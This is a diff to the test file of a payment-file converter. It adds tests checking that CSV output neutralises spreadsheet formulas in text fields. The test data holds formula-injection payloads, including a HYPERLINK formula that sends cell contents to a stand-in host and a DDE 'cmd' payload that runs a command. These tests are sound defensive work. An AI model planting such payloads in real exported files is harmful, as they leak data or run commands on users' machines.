@@ -188,7 +188,7 @@ def test_unreadable_content_prints_the_findings(run: Any, tmp_path: Path, exampl
     assert (r.code, r.out) == (4, "")
     assert r.err == (
         f"{source}:3:51: error: PR101 valor_recaudado: "
-        "valor_recaudado must hold digits only: '0000000854X000'\n"
+        "valor_recaudado must hold digits only, found '0000000854X000'\n"  # validate's words
     )
 
 
@@ -218,3 +218,48 @@ def test_a_readable_file_with_errors_is_converted_with_its_errors_and_exit_1(
     r = run("convert", path, "--to", "json", "-o", out)
     assert (r.code, r.out) == (1, "")
     assert len(json.loads(out.read_text("utf-8"))["records"]) == 6
+
+
+# -- cells a spreadsheet would run -------------------------------------------------------------
+FORMULAS = {  # field: (columns of a pse-detail type-2 line, value)
+    "cuenta_credito": ((57, 17), "-2+3"),
+    "codigo_autorizacion": ((110, 50), '=HYPERLINK("http://x.example/?"&A1,"pay")'),
+    "referencia_1": ((160, 20), "=1+2"),
+    "referencia_2": ((180, 20), "@SUM(A1)"),
+    "referencia_3": ((200, 20), "+cmd|' /C calc'!A0"),
+}
+
+
+@pytest.fixture
+def formulas(tmp_path: Path, pse_detail_file: Path) -> Path:
+    lines = pse_detail_file.read_bytes().split(b"\n")
+    line = lines[1]
+    for (start, length), value in FORMULAS.values():
+        line = line[: start - 1] + value.encode("ascii").ljust(length) + line[start - 1 + length :]
+    lines[1] = line
+    source = tmp_path / "formulas.txt"
+    source.write_bytes(b"\n".join(lines))
+    return source
+
+
+def test_csv_neutralises_formulas_in_text_cells(run: Any, formulas: Path) -> None:
+    r = run("convert", formulas, "--to", "csv")
+    assert (r.code, r.err) == (0, "")
+    rows = list(csv.DictReader(io.StringIO(r.out)))
+    assert {name: rows[0][name] for name in FORMULAS} == {
+        name: "'" + value for name, ((_, _), value) in FORMULAS.items()
+    }
+    assert (rows[0]["valor_transaccion"], rows[0]["fecha_proceso"]) == ("100000.00", "2026-11-20")
+    assert rows[1]["referencia_1"] == ""  # untouched where there is nothing to neutralise
+    json_fields = json.loads(run("convert", formulas, "--to", "json").out)["records"][1]["fields"]
+    assert {name: json_fields[name] for name in FORMULAS} == {
+        name: value for name, ((_, _), value) in FORMULAS.items()  # JSON is no spreadsheet
+    }
+
+
+def test_raw_cells_keeps_them(run: Any, formulas: Path) -> None:
+    r = run("convert", formulas, "--to", "csv", "--raw-cells")
+    rows = list(csv.DictReader(io.StringIO(r.out)))
+    assert {name: rows[0][name] for name in FORMULAS} == {
+        name: value for name, ((_, _), value) in FORMULAS.items()
+    }
